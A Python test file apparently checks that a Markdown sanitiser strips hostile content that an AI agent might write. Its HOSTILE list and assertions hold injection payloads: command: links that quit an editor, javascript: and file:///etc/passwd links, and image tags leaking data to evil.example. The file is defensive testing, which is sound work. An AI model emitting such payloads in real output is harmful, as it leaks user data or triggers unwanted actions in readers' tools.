"""What a hostile agent cannot make a Markdown reader do."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from berth.sessions.harmless import code, prose

HOSTILE = [
    "[run](command:workbench.action.quit)",
    "[run]( <command:x>)",
    "[run](\ncommand:x)",
    "<command:x>",
    "[run](JavaScript:alert(1))",
    "[f](file:///etc/passwd)",
    "![x](https://evil.example/?leak)",
    "![x][ref]\n\n[ref]: https://evil.example/?leak",
    "[ref]: command:x",
    "<img src=https://evil.example/?leak>",
    "<a href=command:x>y</a>",
    "</script><script>x</script>",
    "<IFRAME src=x>",
]


LIVE = ("](command:", "\ncommand:", "<command:", "](JavaScript:", "](file:", "![x](", "![x][", "]: ", "<img", "<a ")


@pytest.mark.parametrize("make", [prose, code])
@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_acts_in_prose_or_code(text: str, make: object) -> None:
    assert callable(make)
    safe = make(text)
    for live in (
        "](command:",
        "\ncommand:",
        "<command:",
        "](JavaScript:",
        "](file:",
        "![x](",
        "![x][",
        "]: ",
        "<img",
        "<a ",
    ):
        assert live not in safe
    assert "<script" not in safe.lower()
    assert "<iframe" not in safe.lower()


@pytest.mark.parametrize(
    "text", ["vector<int> v;", "vec![1, 2]", "if a < b:", "List<String>", "command: npm test", "data: 1", "x = [a]: b"]
)
def test_ordinary_code_is_left_as_it_is(text: str) -> None:
    assert code(text) == text


def test_prose_keeps_what_does_nothing() -> None:
    text = "See [the docs](https://example.org) for command: npm test *now*."
    assert prose(text) == text


@pytest.mark.parametrize("text", ["](" + " " * 20_000, "[" * 20_000, "![" * 20_000, "<" * 20_000, "[a" * 10_000 + "]:"])
def test_hostile_lengths_cost_no_more_than_they_are_long(text: str) -> None:
    started = time.process_time()
    for make in (prose, code):
        make(text + "command:x")
    assert time.process_time() - started < 1.0  # the square would be many seconds; this is not a benchmark


@given(st.text(alphabet="<>a![](): \ncommandimgscript\u200c/", max_size=60))
def test_nothing_live_survives_in_any_order(text: str) -> None:
    for make in (prose, code):
        safe = make(text)
        assert "](command:x" not in make(text + "](command:x")
        assert "<img" not in safe
        assert "<script" not in safe
